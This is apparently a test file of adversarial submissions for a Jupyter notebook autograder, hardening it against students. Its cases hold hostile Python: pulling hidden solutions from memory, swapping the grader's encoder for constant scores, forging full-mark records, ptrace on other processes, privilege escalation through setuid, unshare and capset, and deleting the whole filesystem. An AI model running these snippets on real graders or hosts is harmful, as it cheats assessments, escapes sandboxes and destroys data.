            "nn_model": """
        def nn_model(X, Y, n_h, num_iterations=10000, print_cost=False):
            for value in (10**400, -1, float("nan"), "x", None, [1], {"a": 1}, 1j, True, 2**63):
                for call in (lambda: initialize_parameters(value, value, value), lambda: layer_sizes(value, value),
                             lambda: initialize_parameters(**{"n_x": value, "\\ud800": value})):
                    try: call()
                    except Exception: pass
        """
        },
    ),
    attack(
        107,
        "objects searched",
        "expected values",
        body="""
        import gc
        import numpy as np
        for thing in gc.get_objects():
            if isinstance(thing, dict):
                for key, value in list(thing.items()):
                    if isinstance(key, str) and key in ("expected", "reference", "solutions", "wanted"):
                        return value
        """,
    ),
    attack(
        107,
        "objects searched",
        "solutions and secrets",
        first=[
            """
        import gc, re
        found = set()
        for thing in gc.get_objects():
            for text in thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple, set) else ():
                if type(text) is str and (re.search(r"@LOOT@", text) or "log_probabilities = Y" in text):
                    found.add(text[:3000])
        print(found)
        """
        ],
    ),
    attack(
        108,
        "modules",
        "graders in memory",
        first=[
            """
        import sys
        print([name for name in sys.modules if "grader" in name or "reference" in name or "solution" in name])
        for name in ("graders", "graders.a15_planar_classification", "source_notebooks", "autograder.running.source"):
            try:
                module = __import__(name, fromlist=["x"])
                print(name, getattr(module, "__file__", None), open(module.__file__).read()[:3000])
            except Exception as error:
                print(name, error)
        """
        ],
    ),
    attack(
        109,
        "encoder replaced",
        "always a constant",
        first=[
            """
        from autograder.inside import wire
        constant = wire.encode({"value": wire.encode(0.0), "changed": []})
        wire.encode = lambda value: constant
        """
        ],
    ),
    attack(
        109,
        "encoder replaced",
        "no limits",
        first=[
            """
        from autograder.inside import wire
        wire.MAX_BYTES = wire.MAX_ITEMS = wire.MAX_DEPTH = 10**12
        """
        ],
        body="return [[0] * 400] * 400",
        written=FEW,
    ),
    attack(
        110,
        "system calls replaced",
        "fork and timer",
        first=[
            """
        import os, signal
        os.fork = lambda: 0
        os._exit = lambda status: None
        signal.setitimer = signal.signal = lambda *args: None
        """
        ],
    ),
    attack(
        110,
        "system calls replaced",
        "fork refused",
        first=[
            """
        import os
        def fork():
            raise OSError("no")
        os.fork = os.waitpid = fork
        """
        ],
        reason="ended|stopped the whole",
    ),
    attack(
        110,
        "system calls replaced",
        "exit status",
        first=[
            """
        import os
        os.waitstatus_to_exitcode = lambda status: 0
        os._exit = lambda status: os.kill(os.getpid(), 9)
        """
        ],
    ),
    *[
        attack(111, "hooks", variant, first=[code])
        for variant, code in (
            ("atexit", "import atexit\natexit.register(print, '@TRACE@')"),
            ("settrace", "import sys\nsys.settrace(lambda *args: None)"),
            (
                "setprofile",
                "import sys, threading\nsys.setprofile(lambda *args: None)\nthreading.setprofile(lambda *args: None)",
            ),
            ("audit", "import sys\nsys.addaudithook(lambda name, args: None)"),
            (
                "excepthook",
                "import sys, threading\nsys.excepthook = threading.excepthook = sys.unraisablehook = lambda *a: None",
            ),
            ("import", "import builtins\nbuiltins.__import__ = lambda *args, **kwargs: 1 / 0"),
            ("at fork", "import os\nos.register_at_fork(before=lambda: 1 / 0, after_in_child=lambda: os._exit(0))"),
        )
    ],
    accident(
        111,
        "hooks",
        "events of the shell",
        first=[
            """
        def fails(*args):
            raise RuntimeError("hook")
        for event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
            get_ipython().events.register(event, fails)
        """
        ],
    ),
    accident(
        112,
        "thread",
        "that keeps running",
        last=[
            """
        import threading
        def run():
            n = 0
            while True:
                n += 1
        threading.Thread(target=run, daemon=True).start()
        """
        ],
    ),
    accident(
        112,
        "thread",
        "that prints",
        last=[
            """
        import threading, time
        def run():
            while True:
                print("still here")
                time.sleep(0.001)
        threading.Thread(target=run).start()
        """
        ],
    ),
    attack(
        112,
        "thread",
        "that writes messages",
        first=[
            clean(DESCRIPTORS)
            + """
import threading, time
data = frame(("reply", wire.encode({"value": wire.encode(0.0), "changed": []})))
def run():
    while True:
        to_everyone(data)
        time.sleep(0.01)
threading.Thread(target=run, daemon=True).start()
"""
        ],
    ),
    attack(
        113,
        "other processes",
        "ptrace and memory",
        first=[
            """
        @CONTAINED@
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
        buffer = ctypes.create_string_buffer(64)
        here = Vector(ctypes.cast(buffer, ctypes.c_void_p), 64)
        for pid in range(1, 400):
            if pid != os.getpid():
                attached = libc.ptrace(16, pid, None, None)
                read = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(Vector(0x400000, 64)), 1, 0)
                if attached == 0 or read > 0:
                    print("reached process", pid, "SURVIVED")
        """
        ],
        plain=False,
    ),
    attack(
        113,
        "other processes",
        "the notebook's own, from a function",
        body="""
        @CONTAINED@
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace(16, os.getppid(), None, None)
        os.kill(os.getppid(), 19)
        """,
        plain=False,
        reason="took longer|took too long|stopped|ended|None",
    ),
    attack(
        114,
        "rights",
        "chmod and chown",
        first=[
            """
        @CONTAINED@
        import os
        for path in ("@COURSE@", "@COURSE@/gradebook.db", "@ROOT@/autograder", "/usr", "/tmp", "/etc", "/dev", ".", "/proc"):
            for change in (lambda: os.chmod(path, 0o777), lambda: os.chown(path, 1000, 1000), lambda: os.chroot(path)):
                try: change()
                except OSError: pass
        """
        ],
        plain=False,
    ),
    attack(
        114,
        "rights",
        "root again",
        first=[
            """
        @CONTAINED@
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for name, call in {
            "setuid": lambda: os.setuid(0), "setresuid": lambda: os.setresuid(0, 0, 0), "setgroups": lambda: os.setgroups([0]),
            "unshare": lambda: os.strerror(ctypes.get_errno()) if libc.unshare(0x10000000) else "done",
            "mount": lambda: libc.mount(b"proc", b"/proc", b"proc", 0, None), "umount": lambda: libc.umount2(b"/tmp", 2),
            "pivot": lambda: libc.pivot_root(b".", b"."), "chroot": lambda: os.chroot("/"),
            "capset": lambda: libc.capset(b"\\x22\\x05\\x08\\x20\\0\\0\\0\\0", b"\\xff" * 24),
            "sudo": lambda: os.system("sudo -n id > /dev/null 2>&1"), "su": lambda: os.system("su -c id < /dev/null 2> /dev/null"),
            "keyctl": lambda: libc.syscall(250, 0, -3, 0), "reboot": lambda: libc.syscall(169, 0, 0, 0, 0),
        }.items():
            try:
                print(name, "SURVIVED" if call() in (0, None, "done") and name not in ("setgroups",) else "refused")
            except OSError as error:
                print(name, error)
        """
        ],
        plain=False,
    ),
    attack(115, "descriptors", "all closed", first=["import os\nos.closerange(0, 65536)"], reason="ended the whole"),
    attack(
        115,
        "descriptors",
        "all closed in a function",
        body="import os\nos.closerange(0, 65536)",
        reason="stopped the whole|ended",
    ),
    attack(
        115,
        "descriptors",
        "all the same",
        body="""
        import os
        for number in range(1, 256):
            try: os.dup2(0, number)
            except OSError: pass
        """,
    ),
    attack(
        115,
        "descriptors",
        "shut down",
        first=[
            """
        import os, socket
        for number in range(3, 256):
            try: socket.socket(fileno=os.dup(number)).shutdown(socket.SHUT_RDWR)
            except OSError: pass
        """
        ],
    ),
    attack(
        116, "stops itself", "in a cell", first=["import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"], plain=False
    ),
    accident(
        116,
        "stops itself",
        "in a function",
        COST,
        cells=cost("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
        plain=False,
        reason="took longer",
    ),
    attack(
        117,
        "limits",
        "raised",
        first=[
            """
        @CONTAINED@
        import resource
        for name in ("DATA", "NPROC", "FSIZE", "CPU", "NOFILE", "CORE"):
            number = getattr(resource, "RLIMIT_" + name)
            try:
                resource.setrlimit(number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                print(name, "SURVIVED")
            except (ValueError, OSError) as error:
                print(name, error)
        """
        ],
        plain=False,
    ),
    accident(
        117,
        "limits",
        "lowered in a cell",
        last=[
            """
        import resource
        resource.setrlimit(resource.RLIMIT_CPU, (1000, 1000))
        import os
        os.nice(19)
        """
        ],
    ),
    attack(
        117,
        "limits",
        "of the process",
        first=[
            """
        @CONTAINED@
        import ctypes
        libc = ctypes.CDLL(None)
        libc.prctl(1, 0, 0, 0, 0)
        libc.prctl(4, 0, 0, 0, 0)
        libc.prctl(15, b"init", 0, 0, 0)
        libc.prctl(38, 1, 0, 0, 0)
        libc.prctl(22, 1, 0, 0, 0)
        """
        ],
        plain=False,
    ),
    accident(118, "recursion", "without end", COST, cells=cost("return compute_cost(A2, Y)"), reason="RecursionError"),
    accident(
        118,
        "recursion",
        "without a limit",
        COST,
        reason="stopped the whole Python process",
        cells=cost("import sys\nsys.setrecursionlimit(10**9)\nf = lambda x: sorted([x], key=f)\nreturn f(1)"),
    ),
    *[
        accident(119, "hostile object", variant, COST, cells=cost(f"{clean(code)}\nreturn Hostile()"), reason=reason)
        for variant, code, reason in (
            ("array that exits", "class Hostile:\n    def __array__(self, *args, **kwargs): raise SystemExit", None),
            (
                "array that prints",
                "class Hostile:\n    def __array__(self, *args, **kwargs):\n        print('x' * 10**6)\n"
                "        return np.array('text')",
                "plain numbers",
            ),
            (
                "array that changes",
                "class Hostile:\n    def __array__(self, *args, **kwargs):\n        return np.array(np.random.rand())",
                None,
            ),
            ("class that lies", "class Hostile:\n    __class__ = property(lambda self: np.ndarray)", None),
            (
                "metaclass",
                "class Meta(type):\n    def __getattribute__(cls, name): raise RuntimeError(name)\n"
                "class Hostile(metaclass=Meta): pass",
                None,
            ),
            (
                "items that fail",
                "class Hostile(dict):\n    def items(self): raise RuntimeError('no items')\n"
                "    def __len__(self): raise SystemExit",
                None,
            ),
            ("attributes that never end", "class Hostile:\n    def __getattr__(self, name): return Hostile()", None),
        )
    ],
    *[
        accident(120, "hostile error", variant, COST, cells=cost(code), reason=reason)
        for variant, code, reason in (
            ("text that fails", "class Bad(Exception):\n    def __str__(self): raise RuntimeError\nraise Bad", "Bad"),
            ("text that exits", "class Bad(Exception):\n    def __str__(self): raise SystemExit\nraise Bad", None),
            (
                "text without end",
                "class Bad(Exception):\n    def __str__(self):\n        while True: pass\nraise Bad",
                "took longer",
            ),
            ("surrogates", "raise ValueError('\\ud800 \\udfff')", "ValueError"),
            ("control characters", "raise ValueError('\\x00\\x1b[31m\\u202e\\x08')", "ValueError"),
            ("a name of its own", "raise type('\\ud800' * 300, (Exception,), {})('x')", None),
            ("a key of surrogates", "return {'\\ud800': 1.0}", None),
            ("a group", "raise ExceptionGroup('many', [ValueError(i) for i in range(1000)])", "ExceptionGroup"),
            (
                "a long chain",
                "for i in range(300):\n    try: raise ValueError(i)\n    except ValueError as error: last = error\nraise last",
                "ValueError",
            ),
        )
    ],
    accident(
        120,
        "hostile error",
        "in cells",
        last=[
            "class Bad(Exception):\n    def __str__(self): raise RuntimeError\nraise Bad",
            "raise ValueError('\\ud800')",
            "print('\\ud800 \\x00 \\x1b[31m')",
            "'\\ud800'",
            "class Bad(BaseException):\n    def __str__(self): raise SystemExit\nraise Bad",
        ],
    ),
    *[
        accident(
            121, "odd display", variant, last=[f"from IPython.display import HTML, display\nimport numpy as np\n{code}"]
        )
        for variant, code in (
            ("bytes in the metadata", "display(HTML('x'), metadata={'a': b'x'})"),
            ("numbers in the metadata", "display(HTML('x'), metadata={'a': 1j, 'b': np.zeros(3)})"),
            ("keys of two kinds", "display(HTML('x'), metadata={1: 1, 'a': 2, None: 3})"),
            ("not a number", "display({'application/json': {'a': float('nan'), 'b': float('inf')}}, raw=True)"),
            ("bytes as JSON", "display({'application/json': {'a': b'x'}}, raw=True)"),
            ("a nested display", "a = []\nfor i in range(100): a = [a]\ndisplay({'application/json': a}, raw=True)"),
            ("surrogates", "display({'text/plain': '\\ud800', '\\ud800': 'x', 'text/html': '\\udfff'}, raw=True)"),
            ("kinds that are none", "display({'../../etc': 'x', '': 'y', 3: 'z', 'text/html': 3}, raw=True)"),
            ("a picture that is none", "display({'image/png': 'not base64 <script>'}, raw=True)"),
        )
    ],
    accident(
        122,
        "names",
        "paths and unicode in ids",
        change=lambda notebook, world: (
            [
                cell.metadata.update(
                    nbgrader={**cell.metadata.get("nbgrader", {}), "grade_id": name, "solution": True, "grade": True}
                )
                for cell, name in zip(
                    [c for c in notebook.cells if "nbgrader" not in c.metadata],
                    ("../../gradebook", "/etc/passwd", "\x00", "é" * 500, "<script>", "", " ", "check_"),
                    strict=False,
                )
            ]
            and None
        ),
    ),
    accident(
        122, "names", "cell ids", change=lambda notebook, world: [cell.update(id="same") for cell in notebook.cells]
    ),
    accident(
        123,
        "deep metadata",
        "in cells",
        raw=with_text(lambda content: content["cells"][0]["metadata"].update(a=json.loads("[" * 500 + "]" * 500))),
    ),
    accident(
        123,
        "deep metadata",
        "of other kinds",
        raw=with_text(
            lambda content: [
                cell.update(metadata=value, id=value, outputs=value, attachments=value)
                for cell, value in zip(
                    [c for c in content["cells"] if not c["metadata"].get("nbgrader")],
                    (None, 3, "x", [], True, 1.5),
                    strict=False,
                )
            ]
        ),
    ),
    accident(
        123,
        "deep metadata",
        "many cells",
        raw=with_text(
            lambda content: content["cells"].extend(
                {"cell_type": "code", "metadata": {}, "source": "x = 1"} for i in range(1000)
            )
        ),
        plain=False,
    ),
    accident(
        124,
        "settings",
        "changed",
        last=[
            """
        import decimal, gc, locale, os, random, sys, time
        import matplotlib.pyplot as plt
        os.environ.clear()
        os.environ.update(COURSE_SECRET="x", HOME="/", PATH="", TZ="Asia/Tokyo", OMP_NUM_THREADS="99", PYTHONHASHSEED="1")
        time.tzset()
        np.seterr(all="raise")
        np.set_printoptions(precision=1, formatter={"float": lambda value: 1 / 0})
        plt.rcParams.update(plt.rcParamsDefault)
        plt.switch_backend("svg")
        random.seed(5), np.random.seed(5)
        gc.disable()
        sys.setrecursionlimit(300)
        sys.set_int_max_str_digits(0)
        decimal.getcontext().prec = 1
        """
        ],
    ),
    accident(125, "folders", "working folder changed", last=["import os\nos.chdir('/')"]),
    accident(
        125,
        "folders",
        "work folder deleted",
        last=[
            """
        @CONTAINED@
        import os, shutil
        shutil.rmtree(os.getcwd(), ignore_errors=True)
        """
        ],
        plain=False,
    ),
    attack(
        125,
        "folders",
        "everything deleted",
        last=[
            """
        @CONTAINED@
        import os
        def delete(folder, depth=0):
            try: entries = list(os.scandir(folder))
            except OSError: return
            for entry in entries:
                try:
                    if entry.is_dir(follow_symlinks=False):
                        if depth < 4 and entry.name != "proc": delete(entry.path, depth + 1)
                        os.rmdir(entry.path)
                    else:
                        os.unlink(entry.path)
                except OSError:
                    pass
        delete("/")
        """
        ],
        plain=False,
    ),
    accident(
        126,
        "streams",
        "stdout replaced",
        last=[
            """
        import io, sys
        sys.stdout = sys.stderr = sys.stdin = sys.__stdout__ = None
        """
        ],
    ),
    accident(126, "streams", "stdout closed", last=["import sys\nsys.stdout.close()\nsys.stderr.close()\nprint('x')"]),
    accident(
        126,
        "streams",
        "stdout that fails",
        last=[
            """
        import sys
        class Bad:
            def __getattr__(self, name): raise RuntimeError(name)
        sys.stdout = sys.stderr = Bad()
        """
        ],
    ),
    attack(
        127,
        "random numbers",
        "seed overwritten",
        first=[
            """
        import numpy as np
        np.random.seed = lambda *args: None
        np.random.get_state = np.random.set_state = lambda *args: None
        np.random.randn = lambda *shape: np.zeros(shape)
        """
        ],
    ),
    accident(
        128,
        "slow",
        "just below the limits",
        last=["import time\ntime.sleep(1.5)"],
        cells=instead(
            "layer_sizes",
            """
        import time
        if X_small is not None:
            time.sleep(0.04)
        return right_layer_sizes(*args, **kwargs)
        """,
        ),
    ),
    accident(
        129,
        "decorated",
        "functions that are objects",
        cells={
            "layer_sizes": """
        import functools
        @RIGHT:layer_sizes@
        class Callable:
            def __init__(self, function): functools.update_wrapper(self, function)
            def __call__(self, *args, **kwargs): return self.__wrapped__(*args, **kwargs)
            def __getattr__(self, name): raise RuntimeError(name)
        layer_sizes = Callable(layer_sizes)
        """
        },
    ),
    accident(
        129,
        "decorated",
        "an object that fails",
        5,
        cells={
            "layer_sizes": """
        class Fails:
            def __call__(self, X, Y): return X.nothing
            def __getattr__(self, name): raise RuntimeError(name)
        layer_sizes = Fails()
        """
        },
        reason="AttributeError",
    ),
    attack(
        129,
        "decorated",
        "names that are not functions",
        cells={
            "layer_sizes": "layer_sizes = 3",
            "predict": "predict = None",
            "compute_cost": "compute_cost = int",
            "nn_model": "class nn_model:\n    def __new__(cls, *args, **kwargs): raise SystemExit",
        },
    ),
    attack(
        130,
        "namespace",
        "replaced",
        first=[
            """
        import builtins
        class Names(dict):
            def get(self, name, default=None): return lambda *args, **kwargs: 0.0
        get_ipython().user_ns = Names(get_ipython().user_ns)
        get_ipython().user_global_ns.clear()
        """
        ],
    ),
    attack(
        130,
        "namespace",
        "builtins deleted",
        first=[
            """
        import builtins
        for name in ("len", "isinstance", "print", "callable", "tuple", "dict", "BaseException", "hasattr"):
            delattr(builtins, name)
        """
        ],
    ),
]


def forged_record(notebook: NotebookNode) -> None:
    """What a graded notebook holds, as if it had been graded with full marks."""
    verdict = {"exercise": "predict", "points": 10.0, "max_points": 10.0, "parts": [], "status": "correct"}
    notebook.metadata["course"] = {"student": "x", "assignment": "x", "verdicts": [verdict] * 8, "depends": {}}


def forged_points(notebook: NotebookNode) -> None:
    """The marks where plain nbgrader reads them."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader.points = 1000
            cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "1000"}, execution_count=1)]


# Found on our own grader, by what they are about.

# Answers with what the public checks have recorded, as a student could.
LOOK_UP = """
import sys
from pathlib import Path
from autograder.inside import wire
from autograder.judging.compare import Comparison
CONTENT = wire.decode(Path("checks.bin").read_bytes())
def looked_up(exercise, arguments):
    recorded = [pair for frozen in CONTENT["exercises"] for pair in zip(frozen["calls"], frozen["results"])]
    recorded = [(call, result["value"]) for call, result in recorded if call[1] == exercise and "value" in result]
    same = [value for call, value in recorded if Comparison().difference(tuple(call[2:4]), arguments) is None]
    return (same or [value for _, value in recorded])[0]
"""

NO_FORWARD = {"forward_propagation": "def forward_propagation(X, parameters):\n    return None"}


def training(body: str) -> dict[str, str]:
    """Another `nn_model` after a wrong `forward_propagation`, which together are worth 30 points."""
    head = "def nn_model(X, Y, n_h, num_iterations=10000, print_cost=False):\n"
    return {**NO_FORWARD, "nn_model": head + textwrap.indent(clean(body), "    ")}


# Marks taken without knowing: ready answers, look-ups, stand-ins that are asked for anything, loops cut short.
TAKEN: list[Attack] = [
    *[
        attack(51, "ready", variant, written=(), last=(cell,), reason=reason)
        for variant, cell, reason in (
            ("import all", "from utils.dnn_app_utils import *", r"comes from utils\.dnn_app_utils"),
            ("by name", "from utils.dnn_app_utils import compute_cost, update_parameters", "comes from utils"),
            (
                "assigned",
                "import utils.dnn_app_utils as u\nupdate_parameters = u.update_parameters",
                "comes from utils",
            ),
            ("a library's", "from sklearn.metrics import log_loss as compute_cost", "comes from sklearn"),
            ("a decorated one", "import functools\ncompute_cost = functools.partial(max, 1)", "comes from functools"),
            (
                "its text",
                "import inspect, utils.dnn_app_utils as u\nexec(inspect.getsource(u))",
                "could not get source",
            ),
            ("its file", "import utils\nexec(open(utils.__path__[0] + '/dnn_app_utils.py').read())", "No such file"),
        )
    ],
    attack(
        51,
        "ready",
        "thin wrappers",
        first=("import types\nimport utils.dnn_app_utils as ready",),
        cells={
            "update_parameters": """
                def update_parameters(parameters, grads, learning_rate=1.2):
                    return ready.update_parameters(parameters, grads, learning_rate)
            """,
            "backward_propagation": """
                linear = types.FunctionType(ready.L_model_backward.__code__, vars(ready))
                def backward_propagation(parameters, cache, X, Y):
                    return linear(cache["A2"], Y, [])
            """,
            **cost("return getattr(ready, 'compute' + '_cost')(A2, Y)"),
        },
        reason="asks you to do without it",
    ),
    attack(
        52,
        "looked up",
        "all",
        first=(LOOK_UP,),
        body="return looked_up(sys._getframe().f_code.co_name, (args, kwargs))",
    ),
    attack(
        52,
        "looked up",
        "then guessed",
        first=(LOOK_UP,),
        cells=cost(
            "import numpy as np\nreturn looked_up('compute_cost', ((A2, Y), {})) if A2.shape == (1, 3) else np.log(2)"
        ),
    ),
    attack(
        53,
        "tabled",
        "inputs come out as messages",
        cells=cost("raise ValueError(A2.tolist())"),
        reason="stopped with ValueError",
    ),
    attack(
        54,
        "oracle",
        "asked for anything",
        right=True,
        honest=70,
        cells=training("""
            import numpy as np
            start = {"W1": np.ones((2, 2)), "b1": np.ones((2, 1)), "W2": np.ones((1, 2)), "b2": np.ones((1, 1))}
            return [forward_propagation(np.full((2, 1), n / 100), start)[0] for n in range(5000)]
        """),
        reason="has no value for these arguments",
    ),
    attack(
        54,
        "oracle",
        "made to fail",
        right=True,
        honest=70,
        cells=training("return forward_propagation('no array', {'W1': None})"),
        reason="has no value for these arguments",
    ),
    attack(
        54,
        "oracle",
        "asked by another name",
        right=True,
        honest=70,
        cells=training(
            "from utils.planar_utils import sigmoid\nreturn forward_propagation.__closure__[0].cell_contents(X)"
        ),
    ),
    attack(
        55,
        "kept",
        "in a file for the next call",
        right=True,
        honest=60,
        cells={
            **cost("""
                import os, numpy as np
                if os.path.exists("told.npy"):
                    return float(np.load("told.npy"))
                np.save("asked.npy", A2)
                return 0.0
            """),
            **training("""
                import os, numpy as np
                if os.path.exists("asked.npy"):
                    np.save("told.npy", compute_cost(np.load("asked.npy"), Y))
                return initialize_parameters(2, n_h, 1)
            """),
        },
    ),
    attack(
        56,
        "stand-in",
        "takes all memory",
        right=True,
        honest=75,
        cells={
            "initialize_parameters": "def initialize_parameters(n_x, n_h, n_y):\n    return None",
            "nn_model": """
                def nn_model(X, Y, n_h, num_iterations=10000, print_cost=False):
                    return initialize_parameters(10**5, 10**5, 1)
            """,
        },
        reason="has no value for these arguments",
    ),
    attack(
        56,
        "stand-in",
        "asked without end",
        right=True,
        honest=70,
        cells=training("""
            while True:
                try:
                    forward_propagation(X, {})
                except ValueError:
                    pass
        """),
        reason="took longer",
    ),
]

# Right answers that must keep their marks: broken imports, names given away, stubs half removed.
KEPT: list[Attack] = [
    *[
        accident(66, "imports", variant, change=imports_cell(edit), reason=reason)
        for variant, edit, reason in (
            ("colab first", lambda code: "from google.colab import drive\n" + code, r"in line 1, from google\.colab"),
            ("colab last", lambda code: code + "\nfrom google.colab import drive", "No module named"),
            ("unknown style", lambda code: code.replace("utils.course", "no such style"), "no such style"),
            ("missing package", lambda code: code.replace("import numpy", "import torch\nimport numpy"), "in line"),
            ("pip first", lambda code: "!pip install torch\n" + code, None),
            ("emptied", lambda code: "", None),
            ("syntax error", lambda code: "import\n" + code, "SyntaxError"),
        )
    ],
    accident(66, "imports", "cell deleted", change=lambda notebook, world: notebook.cells.remove(imports_of(notebook))),
    accident(66, "imports", "cell as text", change=lambda notebook, world: to_text(imports_of(notebook))),
    *[
        accident(67, "given away", variant, last=(cell,), reason=reason)
        for variant, cell, reason in (
            ("result", "X = np.ones((2, 3))\nlayer_sizes = layer_sizes(X, X[:1])", "makes layer_sizes something else"),
            ("reset", "%reset -f", "makes layer_sizes something else"),
            ("deleted", "del compute_cost, predict", "makes compute_cost something else"),
            (
                "experiment",
                "def forward_propagation(X, parameters):\n    return X",
                "makes forward_propagation something",
            ),
            ("a module", "import numpy as predict", "as it was at its check cell"),
            ("a helper's name", "np = None\nsigmoid = None", None),
            ("all of them", "for name in list(globals()):\n    if name[0] != '_': del globals()[name]", None),
        )
    ],
    accident(
        67, "given away", "answers above, stubs left", first=("@RIGHT:layer_sizes@", "@RIGHT:predict@"), change=unwrite
    ),
    accident(
        67,
        "given away",
        "mended below",
        cells=cost("return 0.0"),
        last=("@RIGHT:compute_cost@",),
        reason="counts as it is then",
    ),
    *(
        accident(84, "exit", variant, last=(cell,), reason="it ends the kernel in Jupyter; here it ends the cell")
        for variant, cell in (("called", "exit()"), ("in the middle", "x = 1\nquit()\nlayer_sizes = None"))
    ),
    accident(
        81,
        "stub",
        "raise line below the answer",
        COST,
        change=raise_line_left("compute_cost", "### END"),
        reason=r"Your code for compute_cost is there, and the line raise NotImplementedError\(…\) is still below it",
    ),
    accident(
        81,
        "stub",
        "raise line above the answer",
        COST,
        change=raise_line_left("compute_cost", "# (1)"),
        reason=r"Your code for compute_cost is there, .* is still above it\. Is all of it there\? Then delete that line",
    ),
    accident(
        81,
        "stub",
        "half written",
        COST,
        cells=cost(
            """
            ### START CODE HERE ###
            # (1) the logarithm of each probability
            logprobs = np.log(A2) * Y + np.log(1 - A2) * (1 - Y)
            # (2) the mean
            raise NotImplementedError("compute_cost is not written yet")
            ### END CODE HERE ###
            return cost
            """
        ),
        reason=r"compute_cost is half written: nothing stands under \(2\) yet",
    ),
    accident(
        81,
        "stub",
        "an error of its own",
        COST,
        cells=cost("raise NotImplementedError('Cannot convert a symbolic Tensor')"),
        reason="stopped with NotImplementedError: Cannot convert a symbolic Tensor",
    ),
    accident(
        81,
        "stub",
        "raise line in the middle",
        5,
        change=raise_line_left("layer_sizes", "# (2)"),
        reason="Your code for layer_sizes is there, .* is still in the middle of it",
    ),
    *(
        accident(
            82,
            "form",
            f"a number as {shape}",
            1.43,
            cells=instead("compute_cost", f"return np.full({shape}, right_compute_cost(*args, **kwargs))"),
            reason=re.escape(f"should be one number; yours is an array of shape {shape}."),
        )
        for shape in ((1, 1), (1,))
    ),
    *(
        accident(82, "form", variant, loses, cells=instead(name, body), reason=reason)
        for name, variant, body, loses, reason in (
            (
                "layer_sizes",
                "a tuple as an array",
                "return np.array(right_layer_sizes(*args, **kwargs))",
                0.83,
                r"should be a tuple of 3; yours is an array of shape \(3,\), with the right values",
            ),
            (
                "forward_propagation",
                "the results as a list",
                "return list(right_forward_propagation(*args, **kwargs))",
                0,
                None,
            ),
            (
                "update_parameters",
                "arrays as lists",
                "return {k: v.tolist() for k, v in right_update_parameters(*args, **kwargs).items()}",
                1.67,
                r"W1 should be an array of shape .* yours is a list of",
            ),
        )
    ),
    *(
        accident(
            83,
            "cache",
            variant,
            cells=instead(
                "forward_propagation",
                f"A2, cache = right_forward_propagation(*args, **kwargs)\ncache['more'] = {what}\nreturn A2, cache",
            ),
        )
        for variant, what in (
            ("with a function", "np.tanh"),
            ("with a module", "np"),
            ("with itself", "cache"),
            ("with objects", "np.array([None, {}])"),
            ("with too much", "np.broadcast_to(0.0, 3_000_000)"),
        )
    ),
    accident(
        83,
        "cache",
        "with a function, where ours stands in",
        25,
        cells=instead(
            "forward_propagation", "A2, cache = right_forward_propagation(*args)\nreturn A2, {**cache, 1: print}"
        )
        | {"backward_propagation": "def backward_propagation(parameters, cache, X, Y):\n    return {}"},
    ),
    accident(
        82,
        "form",
        "a number of dimension 0",
        cells=instead("compute_cost", "return np.array(right_compute_cost(*args, **kwargs))"),
    ),
]

# Files and folders as they come: which notebook is graded, sizes, names, links, what is slow to read.
INTAKE: list[Attack] = [
    *[
        accident(68, "copies", variant, prepare=prepare, reason=reason, plain=False)
        for variant, prepare, reason in (
            (
                "an original beside Copy1",
                released_beside(f"{PLANAR}.ipynb", f"{PLANAR}-Copy1.ipynb"),
                "Graded: .*Copy1",
            ),
            ("an original beside (1)", released_beside(f"{PLANAR}.ipynb", f"{PLANAR} (1).ipynb"), r"Graded: .*\(1\)"),
            ("an original beside my name", released_beside(f"{PLANAR}.ipynb", "ann.ipynb"), "Graded: ann.ipynb"),
            ("an untouched copy", released_beside(f"{PLANAR}-Copy1.ipynb"), "Not graded: .*Copy1"),
            ("two under other names", released_beside("a.ipynb", "b.ipynb"), "Graded: b.ipynb"),
            ("one folder deeper", move_notebook(f"{PLANAR}/{PLANAR}.ipynb"), "Graded"),
            ("two folders deeper", move_notebook("homework/week 5/mine.ipynb"), "Graded"),
            ("a browser's ending", move_notebook(f"{PLANAR}.ipynb.txt"), None),
            ("capitals", move_notebook(f"{PLANAR.upper()}.IPYNB"), None),
        )
    ],
    *[
        accident(68, "not meant", name, files={name: b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X"}, plain=False)
        for name in (f"._{PLANAR}.ipynb", f"__MACOSX/._{PLANAR}.ipynb", f".ipynb_checkpoints/{PLANAR}-checkpoint.ipynb")
    ],
    accident(
        68, "not meant", "a broken copy", files={"a.ipynb": b"%PDF"}, reason="a.ipynb.* .not a notebook.", plain=False
    ),
    accident(31, "split", "the rest has no name", change=split_without_name(first=False), reason="had been split"),
    accident(31, "split", "the beginning has no name", change=split_without_name(first=True), reason="had been split"),
    accident(58, "large", "saved outputs of 25 MB", change=with_saved_outputs, plain=False),
    accident(58, "large", "3000 empty cells before the answers", change=with_cells_before("\n"), plain=False),
    accident(
        58, "large", "3000 cells before the answers", change=with_cells_before("x = 1"), reason="too large", plain=False
    ),
    accident(
        58,
        "large",
        "6000 files",
        files={f"many/{i}": "" for i in range(6000)},
        reason="there may be 5000 files",
        plain=False,
    ),
    accident(58, "large", "a file of 20 MB", prepare=sparse, reason="larger than 8 MB: huge.bin", plain=False),
    accident(58, "deep", "200 folders", prepare=deep_folders, reason="16 folders deep", plain=False),
    *[
        accident(58, "slow to read", variant, last=[code], plain=False)
        for variant, code in (
            ("newlines", "x = 1" + "\n" * 100_000 + "y = 1"),
            ("lines of spaces", "x = 1\n" + (" " * 99 + "\n") * 5000 + "y = 1"),
        )
    ],
    accident(
        58,
        "slow to read",
        "newlines in an answer",
        COST,
        cells={"compute_cost": "def compute_cost(\n" + "\n" * 100_000},
        plain=False,
    ),
    accident(
        58,
        "slow to read",
        "newlines behind an answer",
        cells={"compute_cost": "@RIGHT:compute_cost@" + "\n" * 100_000 + "# done"},
        plain=False,
    ),
    *[
        accident(59, "slow to decode", variant, COST, cells=cost(code), plain=False)
        for variant, code in (
